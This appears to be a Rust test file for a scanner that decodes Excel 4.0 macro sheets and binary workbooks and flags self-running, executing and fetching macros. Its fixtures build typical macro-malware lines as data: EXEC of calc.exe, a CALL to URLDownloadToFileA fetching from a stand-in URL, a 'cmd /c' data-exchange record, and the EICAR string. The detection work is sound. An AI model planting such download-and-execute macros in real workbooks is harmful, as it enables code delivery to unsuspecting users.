use proptest::prelude::*;

use super::{Records, binary, open};
use crate::{
    facts::Fact,
    unpack::fixtures::{
        Record, eicar, noise,
        workbook::{call_token, record, text_token, workbook},
    },
};

const EXEC: u16 = 110;
const CALL: u16 = 150;

fn opened(stream: &[u8]) -> Record {
    let mut record = Record::default();
    open(stream, Records::AsStored, &mut record).unwrap();
    record
}

fn sheet(record: &Record) -> String {
    record.children.iter().filter(|(name, _)| name.starts_with("XLM/")).map(|(_, text)| String::from_utf8_lossy(text)).collect()
}

#[test]
fn the_formulas_of_a_macro_sheet_are_text() {
    let exec = [text_token("calc"), text_token(".exe"), vec![0x08], call_token(1, EXEC)].concat();
    let arguments = ["urlmon", "URLDownloadToFileA", "JJCCJJ"].map(text_token).concat();
    let call = [arguments, vec![0x1e, 0, 0], text_token("http://x/y"), vec![0x24, 4, 0, 1, 0xc0], call_token(6, CALL)].concat();
    let record = opened(&workbook(&[], &[exec, call, vec![0x42, 0, 54, 0]]));
    let text = sheet(&record);
    assert!(text.contains("A1: =EXEC(\"calc\"&\".exe\")\n"), "{text}");
    assert!(text.contains("A2: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/y\",B5)\n"), "{text}");
    assert!(text.contains("A3: =HALT()\n"), "{text}");
    assert_eq!(record.children[0].0, "XLM/Macro1.txt");
    assert_eq!(record.notes, ["the macro sheet Macro1 is very hidden"]);
    assert_eq!(record.facts, [Fact::RunsByItself, Fact::Executes, Fact::Fetches]);
}

#[test]
fn formulas_that_make_no_sense_are_text_as_far_as_they_go() {
    for tokens in
        [&[0x42][..], &[0x17, 200, 0, 1], &[0x08], &[0x42, 127, 255, 0], &[0xff], &[0x1f, 0], &[0x42, 9, 0x6d, 0x80], &[0x19, 4, 9, 0]]
    {
        assert!(!sheet(&opened(&workbook(&[], &[tokens.to_vec()]))).is_empty());
    }
    // Each operator doubles nothing: what is long is cut.
    let long = [text_token(&"x".repeat(255)), [0x08].repeat(3_000)].concat();
    assert!(sheet(&opened(&workbook(&[], &[long]))).len() < 100_000);
}

#[test]
fn an_ordinary_workbook_has_no_macros() {
    let mut stream = workbook(&[], &[[vec![0x1e, 5, 0], vec![0x42, 1, 4, 0]].concat()]);
    // No macro sheet, no name that runs.
    let begin = memchr::memmem::rfind(&stream, &[0x00, 0x06, 0x40, 0x00]).unwrap();
    stream[begin + 2] = 0x10;
    let bound = memchr::memmem::find(&stream, b"\x02\x01\x06\x00Macro1").unwrap();
    stream[bound..bound + 2].fill(0);
    let record = opened(&stream);
    assert!(record.children.is_empty() && record.notes.is_empty());
}

#[test]
fn data_exchange_is_told() {
    let book = record(0x01ae, &[&[0, 0, 14, 0, 0][..], b"cmd\x03/c calc.exe"].concat());
    assert!(opened(&workbook(&book, &[])).facts.contains(&Fact::Executes));
    let honest = record(0x01ae, &[&[0, 0, 12, 0, 0][..], b"Excel\x03a.xlsx"].concat());
    let record = opened(&workbook(&honest, &[]));
    assert!(!record.facts.contains(&Fact::Executes) && record.notes.iter().any(|note| note.contains("data exchange")));
}

#[test]
fn pictures_are_put_together_from_their_records() {
    let picture = [&b"\x89PNG\r\n\x1a\n"[..], &noise(9_000)].concat();
    let mut blip = [&0x6e00u16.to_le_bytes()[..], &0xf01eu16.to_le_bytes(), &(picture.len() as u32 + 17).to_le_bytes(), &[0; 17]].concat();
    blip.extend(&picture);
    let (first, rest) = blip.split_at(8_000);
    let drawings = [record(0x00eb, first), record(0x003c, rest)].concat();
    assert!(opened(&workbook(&drawings, &[])).has(&picture));
}

/// A sheet of a binary workbook: one cell with a formula.
fn binary_sheet(tokens: &[u8]) -> Vec<u8> {
    let part = |kind: &[u8], data: &[u8]| [kind, &[data.len() as u8 & 0x7f | 0x80, (data.len() >> 7) as u8], data].concat();
    let cell = [&[2, 0, 0, 0, 0, 0, 0, 0][..], &[0; 8], &[0, 0], &(tokens.len() as u32).to_le_bytes(), tokens, &[0; 4]].concat();
    [vec![0x81, 0x01, 0x00], part(&[0], &[6, 0, 0, 0, 0, 0]), part(&[9], &cell)].concat()
}

#[test]
fn macros_of_a_binary_workbook_are_text() {
    let text: Vec<u8> = "calc".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let tokens = [&[0x17, 4, 0][..], &text, &call_token(1, EXEC)].concat();
    let mut record = Record::default();
    binary::open(&binary_sheet(&tokens), &mut record).unwrap();
    assert_eq!(sheet(&record), "C7: =EXEC(\"calc\")\n");
    assert_eq!(record.facts, [Fact::Executes]);
    let mut record = Record::default();
    binary::open(&binary_sheet(&[0x1e, 1, 0]), &mut record).unwrap();
    assert!(record.children.is_empty());
}

proptest! {
    #[test]
    fn any_bytes_are_taken(bytes in prop::collection::vec(any::<u8>(), 0..800)) {
        opened(&bytes);
        opened(&workbook(&[], std::slice::from_ref(&bytes)));
        binary::open(&bytes, &mut Record::default()).unwrap();
        binary::open(&binary_sheet(&bytes), &mut Record::default()).unwrap();
    }

    #[test]
    fn workbooks_with_wrong_bytes_are_taken(changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..9)) {
        let mut stream = workbook(&[], &[[text_token(&String::from_utf8(eicar()).unwrap()), call_token(1, EXEC)].concat()]);
        for (at, byte) in changes {
            let at = at.index(stream.len());
            stream[at] = byte;
        }
        opened(&stream);
    }
}
